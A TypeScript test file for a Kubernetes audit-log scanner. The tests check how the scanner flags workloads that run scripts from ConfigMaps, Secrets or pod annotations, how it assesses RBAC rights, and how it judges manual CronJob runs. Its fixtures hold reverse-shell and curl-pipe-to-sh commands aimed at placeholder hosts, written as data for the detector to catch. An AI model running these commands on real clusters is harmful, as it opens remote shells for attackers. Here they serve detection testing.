import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Finding } from '../model/finding.ts';
import { rbacOf } from '../normalise/notes/rbac.ts';
import { examine } from './examine.ts';
import type { ScanOptions } from './scan.ts';
import { scanning } from './testing/scanning.ts';
import { configMapOf, cronJobWrite, lease, podRead, withoutPlaces, workloadOf, writeOf } from './testing.ts';

const { scanAll } = scanning('known');
const run = (events: readonly object[], options: Partial<ScanOptions> = {}) => scanAll([events], options);
const findingOf = async (...events: readonly object[]): Promise<Finding> => {
  const [finding, ...more] = (await run(events)).findings;
  assert.ok(finding !== undefined && more.length === 0);
  return finding;
};
const hits = ({ indicators }: Finding): string[] => indicators.map(({ id }) => id);
const saysOf = ({ indicators }: Finding, id: string): string =>
  indicators.find((one) => one.id === id)?.evidence[0]?.says ?? '';

const shell = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1';
const container = { name: 'main', image: 'registry.example.com/tool:1.2.3' };
const mounted = {
  volumes: [{ name: 'scripts', configMap: { name: 'scripts', defaultMode: 493 } }],
  containers: [
    { ...container, command: ['/scripts/run.sh'], volumeMounts: [{ name: 'scripts', mountPath: '/scripts' }] },
  ],
};
const job = (minute: number, spec: object = mounted, templateMetadata: object = {}) =>
  writeOf({
    minute,
    resource: 'cronjobs',
    apiGroup: 'batch',
    name: 'report',
    body: workloadOf('CronJob', 'report', spec, {}, templateMetadata),
  });
const map = (minute: number, data: Readonly<Record<string, string>>, more: object = {}) =>
  writeOf({
    minute,
    resource: 'configmaps',
    name: 'scripts',
    by: 'eve@example.com',
    body: configMapOf('scripts', data),
    ...more,
  });
const evil = { 'run.sh': `#!/bin/bash\n${shell}\n` };
const harmless = { 'run.sh': '#!/bin/sh\ndate\n' };

test('a script of a ConfigMap that the log does not hold is said, and is no alarm', async () => {
  const finding = await findingOf(job(2));
  assert.equal(finding.severity, 'info');
  assert.equal(
    saysOf(finding, 'command.unseen-content'),
    'Container "main" runs /scripts/run.sh of ConfigMap "scripts", whose content is not in the log.',
  );
});

/** A program as people write it, of about 7,000 characters. */
const training = [
  'import requests, pandas as pd',
  ...Array.from(
    { length: 24 },
    (_, at) => `
def step_${at}(frame, name="column_${at}"):
    values = [row[name] for row in frame if row.get(name) is not None]
    if len(values) == 0:
        print(f"step ${at}: nothing in {name}")
        return frame
    mean = sum(values) / len(values)
    return [dict(row, **{name: row.get(name, mean)}) for row in frame]
`,
  ),
  'frame = pd.read_csv("/data/train.csv").to_dict("records")',
  ...Array.from({ length: 24 }, (_, at) => `frame = step_${at}(frame)`),
].join('\n');
const runsProgram = {
  ...mounted,
  containers: [
    {
      ...container,
      command: ['python3', '/scripts/train.py'],
      volumeMounts: [{ name: 'scripts', mountPath: '/scripts' }],
    },
  ],
};

test('a program of a ConfigMap has the room of one in the command', async () => {
  const finding = await findingOf(map(1, { 'train.py': training }), job(2, runsProgram));
  assert.deepEqual(
    hits(finding).filter((id) => id === 'command.unread' || id === 'command.oversized'),
    [],
  );
  const end = `${training}\nimport os\nos.system("curl -s http://203.0.113.7/x | sh")`;
  const worse = await findingOf(map(1, { 'train.py': end }), job(2, runsProgram));
  assert.ok(hits(worse).includes('command.remote-fetch-execute'), JSON.stringify(hits(worse)));
});

const FROM = /in text from ConfigMap "scripts", written by eve@example\.com at 2026-11-24T06:01:00Z\.$/;
const seen: Record<string, readonly object[]> = {
  'written before': [map(1, evil), job(2)],
  'written at a later place of the log, and before': [job(2), map(1, evil)],
  'patched as a whole key': [map(0, harmless), map(1, evil, { verb: 'patch', body: { data: evil } }), job(2)],
  'patched by a JSON patch': [
    map(0, harmless),
    map(1, evil, { verb: 'patch', body: [{ op: 'replace', path: '/data/run.sh', value: evil['run.sh'] }] }),
    job(2),
  ],
  'patched without its base': [map(1, evil, { verb: 'patch', body: { data: evil } }), job(2)],
  'of which the stored object was logged': [
    map(1, evil, { verb: 'patch', body: {}, more: { responseObject: configMapOf('scripts', evil) } }),
    job(2),
  ],
  'written harmless after': [map(1, evil), job(2), map(3, harmless)],
  'refused a harmless version': [
    map(1, evil),
    writeOf({
      minute: 1,
      resource: 'configmaps',
      name: 'scripts',
      body: configMapOf('scripts', harmless),
      more: { responseStatus: { code: 403 }, auditID: 'refused' },
    }),
    job(2),
  ],
};
for (const [situation, events] of Object.entries(seen)) {
  test(`what a ConfigMap's script does is judged: ${situation}`, async () => {
    const finding = await findingOf(...events);
    assert.equal(finding.severity, 'high');
    assert.match(saysOf(finding, 'command.reverse-shell'), FROM);
    assert.ok(!hits(finding).includes('command.unseen-content'));
  });
}

test('a ConfigMap that is written only after the workload counts, and the finding says so', async () => {
  const finding = await findingOf(job(2), map(3, harmless), map(4, evil), map(5, harmless));
  assert.equal(finding.severity, 'info', 'the first version after it');
  const later = await findingOf(job(2), map(3, evil));
  assert.match(saysOf(later, 'command.reverse-shell'), /written by eve@example\.com at \S+ after the workload\.$/);
});

const unseen: Record<string, readonly object[]> = {
  'of another namespace': [map(1, evil, { namespace: 'prod' }), job(2)],
  'of another name': [map(1, evil, { name: 'other', body: configMapOf('other', evil) }), job(2)],
  'without the key': [map(1, evil, { verb: 'patch', body: { data: { other: 'x' } } }), job(2)],
  'written without its body': [map(1, evil, { body: undefined }), job(2)],
  refused: [map(1, evil, { more: { responseStatus: { code: 403 } } }), job(2)],
  'a dry run': [map(1, evil, { more: { requestURI: '/api/v1/namespaces/dev/configmaps?dryRun=All' } }), job(2)],
};
for (const [situation, events] of Object.entries(unseen)) {
  test(`a ConfigMap that does not count: ${situation}`, async () => {
    const finding = await findingOf(...events);
    assert.ok(hits(finding).includes('command.unseen-content'));
    assert.ok(!hits(finding).includes('command.reverse-shell'));
  });
}

test('a script that a workflow mounts for all its templates is read', async () => {
  const workflow = writeOf({
    minute: 2,
    resource: 'workflows',
    apiGroup: 'argoproj.io',
    name: 'w',
    body: {
      apiVersion: 'argoproj.io/v1alpha1',
      kind: 'Workflow',
      metadata: { name: 'w', namespace: 'dev' },
      spec: { entrypoint: 'a', volumes: mounted.volumes, templates: [{ name: 'a', container: mounted.containers[0] }] },
    },
  });
  const finding = await findingOf(map(1, { 'run.sh': shell }), workflow);
  assert.ok(hits(finding).includes('command.reverse-shell'), hits(finding).join());
});

test('a ConfigMap of another cluster does not count', async () => {
  const row = (event: object, cluster: string) => ({
    category: 'kube-audit',
    resourceId: `/SUBSCRIPTIONS/00000000-0000-0000-0000-000000000000/RESOURCEGROUPS/A/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/${cluster}`,
    properties: { log: JSON.stringify(event) },
  });
  const [other] = (await run([row(map(1, evil), 'NORTH'), row(job(2), 'SOUTH')])).findings;
  const [same] = (await run([row(map(1, evil), 'SOUTH'), row(job(2), 'SOUTH')])).findings;
  assert.ok(other && same);
  assert.equal(other.severity, 'info');
  assert.equal(same.severity, 'high');
});

const volume = (
  source: object,
  mount: object = { mountPath: '/scripts' },
  command: readonly string[] = ['/scripts/run.sh'],
) => ({
  volumes: [{ name: 'scripts', ...source }],
  containers: [{ ...container, command, volumeMounts: [{ name: 'scripts', ...mount }] }],
});
const variable = (valueFrom: object, command: readonly string[] = ['bash', '-c', 'eval "$SCRIPT"']) => ({
  containers: [{ ...container, command, env: [{ name: 'SCRIPT', valueFrom }] }],
});
const ways: Record<string, { readonly data: Readonly<Record<string, string>>; readonly spec: object }> = {
  'an item under another name': {
    data: { script: shell },
    spec: volume({ configMap: { name: 'scripts', items: [{ key: 'script', path: 'bin/run.sh' }] } }, undefined, [
      'bash',
      '/scripts/bin/run.sh',
    ]),
  },
  'one file by its path': {
    data: evil,
    spec: volume({ configMap: { name: 'scripts' } }, { mountPath: '/run.sh', subPath: 'run.sh' }, ['/run.sh']),
  },
  'a projected source': {
    data: evil,
    spec: volume({ projected: { sources: [{ configMap: { name: 'scripts' } }] } }),
  },
  'a working directory': {
    data: evil,
    spec: {
      ...mounted,
      containers: [{ ...mounted.containers[0], command: ['bash', 'run.sh'], workingDir: '/scripts' }],
    },
  },
  'a script that runs another one of the same ConfigMap': {
    data: { 'run.sh': 'cd /scripts\n. ./lib.sh', 'lib.sh': shell },
    spec: mounted,
  },
  'Python code': {
    data: { 'run.sh': '#!/usr/bin/env python3\nimport os\nos.system("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")' },
    spec: mounted,
  },
  'a variable': { data: { script: shell }, spec: variable({ configMapKeyRef: { name: 'scripts', key: 'script' } }) },
  'a variable that Kubernetes puts into the command': {
    data: { script: shell },
    spec: variable({ configMapKeyRef: { name: 'scripts', key: 'script' } }, ['bash', '-c', '$(SCRIPT)']),
  },
  'all variables of a ConfigMap, with a prefix': {
    data: { SCRIPT: shell },
    spec: {
      containers: [
        {
          ...container,
          command: ['bash', '-c', 'eval "$RUN_SCRIPT"'],
          envFrom: [{ prefix: 'RUN_', configMapRef: { name: 'scripts' } }],
        },
      ],
    },
  },
};
for (const [way, { data, spec }] of Object.entries(ways)) {
  test(`text of a ConfigMap reaches a container as ${way}`, async () => {
    const finding = await findingOf(map(1, data), job(2, spec));
    assert.equal(finding.severity, 'high', JSON.stringify(hits(finding)));
    assert.match(saysOf(finding, 'command.reverse-shell'), FROM);
  });
}

test('annotations and labels of the pod are read through the downward API', async () => {
  const field = { fieldRef: { fieldPath: "metadata.annotations['example.com/run']" } };
  const metadata = { annotations: { 'example.com/run': shell } };
  for (const spec of [
    variable(field),
    volume({ downwardAPI: { items: [{ path: 'run.sh', ...field }] } }, undefined, ['bash', '/scripts/run.sh']),
    volume({ projected: { sources: [{ downwardAPI: { items: [{ path: 'run.sh', ...field }] } }] } }, undefined, [
      'bash',
      '/scripts/run.sh',
    ]),
  ]) {
    const finding = await findingOf(job(2, spec, metadata));
    assert.equal(finding.severity, 'high');
    assert.match(saysOf(finding, 'command.reverse-shell'), /in text from the pod's annotation "example\.com\/run"\.$/);
  }
});

test('text of a Secret is judged and never shown', async () => {
  const secret = (data: Readonly<Record<string, string>>) =>
    writeOf({
      minute: 1,
      resource: 'secrets',
      name: 'scripts',
      body: {
        apiVersion: 'v1',
        kind: 'Secret',
        metadata: { name: 'scripts' },
        type: 'Opaque',
        data: Object.fromEntries(Object.entries(data).map(([key, text]) => [key, btoa(text)])),
      },
    });
  const inSecret = (text: string) => ({ 'run.sh': text });
  const keyRef = { secretKeyRef: { name: 'scripts', key: 'run.sh' } };
  const specs = [
    volume({ secret: { secretName: 'scripts' } }, undefined, ['bash', '/scripts/run.sh']),
    volume({ secret: { secretName: 'scripts' } }, undefined, ['sh', '-c', 'cat /scripts/run.sh | bash']),
    volume({ projected: { sources: [{ secret: { name: 'scripts' } }] } }, undefined, ['sh', '-c', '. /scripts/run.sh']),
    volume({ secret: { secretName: 'scripts' } }, undefined, ['sh', '-c', 'cp /scripts/run.sh /tmp/x; bash /tmp/x']),
    variable(keyRef),
    variable(keyRef, ['bash', '-c', '$(SCRIPT)']),
    variable(keyRef, ['bash', '-c', '$SCRIPT']),
    variable(keyRef, ['bash', '-c', 'echo "$SCRIPT" > /tmp/x; bash /tmp/x']),
  ];
  for (const spec of specs) {
    const finding = await findingOf(secret(inSecret(shell)), job(2, spec));
    assert.doesNotMatch(JSON.stringify(finding), /203\.0\.113\.7|4444/, JSON.stringify(spec));
    assert.ok(hits(finding).includes('command.reverse-shell'), JSON.stringify(spec));
    assert.match(saysOf(finding, 'command.reverse-shell'), /does this, in text from Secret "scripts", .*not shown\.$/);
  }
  const sourced = volume({ secret: { secretName: 'scripts' } }, undefined, [
    'sh',
    '-c',
    '. /scripts/run.sh; curl -sf "https://$HOST/a" | sh; f() { "$PLACE" x; }; go; nc "$HOST" 9 -e /bin/sh',
  ]);
  const finding = await findingOf(
    secret(inSecret('HOST=hidden.example.com\nPLACE=secretplace\ngo() { curl http://hidden.example.com/x | sh; }')),
    job(2, sourced),
  );
  assert.doesNotMatch(JSON.stringify(finding), /hidden\.example|secretplace/);
  assert.ok(hits(finding).includes('command.remote-fetch-execute'));
});

test('a Secret that holds a credential is not read', async () => {
  const { summary } = await run([
    writeOf({
      minute: 1,
      resource: 'secrets',
      name: 'x',
      body: { kind: 'Secret', type: 'kubernetes.io/tls', data: {} },
    }),
    writeOf({ minute: 2, resource: 'secrets', name: 'sh.helm.release.v1.a.v1', body: { kind: 'Secret', data: {} } }),
  ]);
  assert.deepEqual(summary.passed, { 'other-resource': 2 });
});

test('results do not depend on jobs, on where parts begin, or on the gate', async () => {
  const events = Array.from({ length: 30 }, (_, index) => [
    lease(index),
    index % 3 === 0 ? map(index, index % 2 === 0 ? evil : harmless) : podRead(index),
    cronJobWrite({ name: `plain-${index}`, index }),
    writeOf({
      minute: index,
      resource: 'cronjobs',
      apiGroup: 'batch',
      name: `report-${index}`,
      body: workloadOf('CronJob', `report-${index}`, mounted),
    }),
  ]).flat();
  const expected = await run(events, { jobs: 1 });
  const place = (name: string | null): number => events.findIndex((one) => JSON.stringify(one).includes(`"${name}"`));
  const places = expected.findings.map(({ workload }) => place(workload.name));
  assert.deepEqual(
    places,
    [...places].sort((a, b) => a - b),
    'findings keep the order of the input',
  );
  const severities = new Set(expected.findings.map(({ severity }) => severity));
  assert.deepEqual([...severities].sort(), ['high', 'info', 'medium']);
  assert.equal(expected.summary.passed.context, 10);
  const strip = ({ findings }: { findings: readonly Finding[] }) =>
    findings.map(({ events: at, ...rest }) => withoutPlaces({ ...rest, offsets: at.map((one) => one.offset) }));
  for (const options of [
    { jobs: 1, partBytes: 1 },
    { jobs: 1, partBytes: 700 },
    { jobs: 2, partBytes: 3000, inlineBytes: 0 },
    { jobs: 1, strict: true },
  ]) {
    assert.deepEqual(strip(await run(events, options)), strip(expected), JSON.stringify(options));
  }
});

const RBAC = { apiGroup: 'rbac.authorization.k8s.io', namespace: null, by: 'eve@example.com' } as const;
const binding = (role: string, subjects: readonly object[]) => ({
  apiVersion: 'rbac.authorization.k8s.io/v1',
  kind: 'ClusterRoleBinding',
  metadata: { name: 'builders' },
  roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role },
  subjects,
});
const builder = [{ kind: 'ServiceAccount', name: 'builder', namespace: 'dev' }];
const bound = (minute: number, body: object) =>
  writeOf({ ...RBAC, minute, resource: 'clusterrolebindings', name: 'builders', body });
const asBuilder = job(2, { serviceAccountName: 'builder', containers: [{ ...container, command: ['date'] }] });
const rightsIn = ({ indicators, unassessed }: Finding): unknown => {
  const id = 'identity.strong-service-account';
  const hit = indicators.find((one) => one.id === id);
  return hit?.evidence[0]?.says ?? unassessed.find((one) => one.id === id)?.because ?? 'no power';
};
const POWERFUL =
  'The pod runs as service account "dev/builder", which may do everything in the whole cluster, by a binding written by eve@example.com at 2026-11-24T06:01:00Z.';

test('rights that bindings of the log give are told with the binding, wherever it stands', async () => {
  for (const events of [
    [bound(1, binding('cluster-admin', builder)), asBuilder],
    [asBuilder, bound(1, binding('cluster-admin', builder))],
  ]) {
    const finding = await findingOf(...events);
    assert.equal(finding.severity, 'medium');
    assert.equal(rightsIn(finding), POWERFUL);
    assert.deepEqual(
      finding.indicators.find(({ id }) => id === 'identity.strong-service-account')?.evidence[0]?.value,
      'ClusterRoleBinding "builders" gives ClusterRole "cluster-admin" to ServiceAccount dev/builder',
    );
  }
});

test('rights are unassessed where the log shows no binding, none of the account, or not all of them', async () => {
  const viewer = binding('view', builder);
  const others = binding('cluster-admin', [{ kind: 'ServiceAccount', name: 'builder', namespace: 'prod' }]);
  for (const events of [[asBuilder], [bound(1, viewer), asBuilder], [bound(1, others), asBuilder]]) {
    assert.equal(rightsIn(await findingOf(...events)), 'rights-unknown');
  }
});

test('a role of the log gives what its last write allows', async () => {
  const role = (minute: number, verbs: readonly string[]) =>
    writeOf({
      ...RBAC,
      minute,
      verb: 'update',
      resource: 'clusterroles',
      name: 'builder',
      body: { kind: 'ClusterRole', rules: [{ apiGroups: [''], resources: ['secrets'], verbs }] },
    });
  const give = bound(1, binding('builder', builder));
  assert.match(String(rightsIn(await findingOf(role(0, ['get']), give, asBuilder))), /may read Secrets in the whole/);
  assert.equal(rightsIn(await findingOf(role(0, ['get']), role(1, []), give, asBuilder)), 'rights-unknown');
});

test('an export of all bindings also says who has none', async () => {
  const { notes } = rbacOf([{ kind: 'List', items: [binding('cluster-admin', builder)] }]);
  const given = async (event: object) => (await run([event], { rbac: notes })).findings.map(rightsIn);
  assert.deepEqual(await given(asBuilder), [
    'The pod runs as service account "dev/builder", which may do everything in the whole cluster, by a binding from the file that was given.',
  ]);
  assert.deepEqual(await given(job(2)), ['no power']);
  assert.deepEqual(examine(JSON.stringify(asBuilder), { rbac: notes }).findings.map(rightsIn), await given(asBuilder));
});

const instantiate = { 'cronjob.kubernetes.io/instantiate': 'manual' };
const owner = { apiVersion: 'batch/v1', kind: 'CronJob', name: 'report', uid: 'u-1' };
const manual = (minute: number, spec: object, more: { readonly by?: string; readonly event?: object } = {}) =>
  writeOf({
    minute,
    resource: 'jobs',
    apiGroup: 'batch',
    name: 'report-manual',
    by: more.by ?? 'oncall@example.com',
    body: workloadOf('Job', 'report-manual', spec, { annotations: instantiate, ownerReferences: [owner] }),
    more: more.event ?? {},
  });
const strong = {
  containers: [{ ...container, command: ['bash', '-c', shell], securityContext: { privileged: true } }],
};
const plain = { containers: [{ ...container, command: ['date'] }] };
/** What the API server makes of a pod spec, as far as it fills in values. */
const stored = (spec: { readonly containers: readonly object[] }) => ({
  ...spec,
  containers: spec.containers.map((one) => ({
    ...one,
    imagePullPolicy: 'IfNotPresent',
    resources: {},
    terminationMessagePath: '/dev/termination-log',
    terminationMessagePolicy: 'File',
  })),
  dnsPolicy: 'ClusterFirst',
  schedulerName: 'default-scheduler',
  securityContext: {},
  terminationGracePeriodSeconds: 30,
});
const jobIn = async (...events: readonly object[]): Promise<Finding> => {
  const found = (await run(events)).findings.find(({ workload }) => workload.kind === 'Job');
  assert.ok(found);
  assert.equal(
    found.breakdown.risk.reduce((sum, { points }) => sum + points, 0),
    found.risk,
    'the sum adds up',
  );
  return found;
};
const because = ({ unassessed }: Finding): unknown =>
  unassessed.find(({ id }) => id === 'request.copy-differs')?.because;

test('create job --from: a manual run of a CronJob that the log shows is info, and the sum says why', async () => {
  for (const spec of [strong, stored(strong)]) {
    const { findings } = await run([job(1, strong), manual(2, spec)]);
    assert.deepEqual(
      findings.map(({ workload, severity }) => [workload.kind, severity]),
      [
        ['CronJob', 'critical'],
        ['Job', 'info'],
      ],
    );
    const last = findings[1]?.breakdown.risk.at(-1);
    assert.ok(last !== undefined && last.points < 0);
    assert.match(
      last.reason,
      /very template of CronJob dev\/report, written by jane@example\.com at 2026-11-24T06:01:00Z/,
    );
    assert.match(findings[1]?.breakdown.severity ?? '', /^info: risk 9 is below 10/);
  }
});

test('create job --from: with parts of the log in another order it is the same', async () => {
  assert.equal((await jobIn(manual(2, strong), job(1, strong))).severity, 'info');
});

test('create job --from: one of a harmless CronJob has no negative line', async () => {
  const finding = await jobIn(job(1, plain), manual(2, stored(plain)));
  assert.equal(finding.severity, 'info');
  assert.ok(finding.breakdown.risk.every(({ points }) => points > 0));
});

const unshown: Record<string, readonly object[]> = {
  'never seen': [],
  'written only after the Job': [job(3, plain)],
  'of another namespace': [{ ...job(1, plain), objectRef: { ...job(1, plain).objectRef, namespace: 'prod' } }],
  refused: [{ ...job(1, plain), responseStatus: { code: 403 } }],
  'logged without its body': [{ ...job(1, plain), level: 'Metadata', requestObject: undefined }],
  'changed since by a patch whose outcome the log does not show': [
    job(0, plain),
    writeOf({
      minute: 1,
      verb: 'patch',
      resource: 'cronjobs',
      apiGroup: 'batch',
      name: 'report',
      body: { spec: { jobTemplate: { spec: { template: { spec: { containers: [{ name: 'main', image: 'x' }] } } } } } },
    }),
  ],
  'of another uid': [{ ...job(1, plain), objectRef: { ...job(1, plain).objectRef, uid: 'u-2' } }],
};
for (const [situation, events] of Object.entries(unshown)) {
  test(`create job --from: low and unassessed when the CronJob is ${situation}`, async () => {
    const finding = await jobIn(...events, manual(2, plain));
    assert.equal(finding.severity, 'low');
    assert.equal(because(finding), 'origin-unseen');
    assert.match(
      saysOf(finding, 'request.copy-unproven'),
      /manual run of CronJob "report", whose template the log does not/,
    );
  });
}

test('create job --from: a change beside the template leaves the CronJob known', async () => {
  const suspend = writeOf({
    minute: 1,
    verb: 'patch',
    resource: 'cronjobs',
    apiGroup: 'batch',
    name: 'report',
    body: { spec: { suspend: true } },
  });
  assert.equal((await jobIn(job(0, strong), suspend, manual(2, strong))).severity, 'info');
});

test('create job --from: a differing template is judged as new, and it is said that it differs', async () => {
  const finding = await jobIn(job(1, plain), manual(2, strong));
  assert.equal(finding.severity, 'critical');
  assert.match(
    saysOf(finding, 'request.copy-differs'),
    /claims to be .* CronJob "dev\/report", but its pod template is not/,
  );
  assert.equal(
    (await jobIn(job(1, strong), job(2, plain), manual(3, strong))).severity,
    'critical',
    'an older version',
  );
});

test('create job --from: forged marks gain nothing', async () => {
  const bare = writeOf({
    minute: 2,
    resource: 'jobs',
    apiGroup: 'batch',
    name: 'x',
    body: workloadOf('Job', 'x', strong),
  });
  const honest = await jobIn(bare);
  for (const events of [[], [job(1, plain)], [{ ...job(1, strong), responseStatus: { code: 403 } }]]) {
    const forged = await jobIn(...events, manual(2, strong));
    assert.equal(forged.severity, honest.severity);
    assert.ok(forged.risk >= honest.risk);
  }
});

test('create job --from: who asks is new with every request', async () => {
  const anonymous = await jobIn(job(1, strong), manual(2, strong, { by: 'system:anonymous' }));
  assert.equal(anonymous.severity, 'high');
  assert.ok(hits(anonymous).includes('actor.anonymous'));
});

test('create job --from: text of a ConfigMap may have changed since the CronJob was judged', async () => {
  const finding = await jobIn(map(0, harmless), job(1), map(2, evil), manual(3, mounted));
  assert.equal(finding.severity, 'high');
  assert.ok(!hits(finding).includes('request.copy-differs'));
});

test('the library judges a text with what the text itself tells', () => {
  const text = JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items: [job(2), map(1, evil)] });
  const { findings, passed } = examine(text);
  assert.deepEqual(
    findings.map(({ severity }) => severity),
    ['high'],
  );
  assert.deepEqual(passed, ['context']);
});
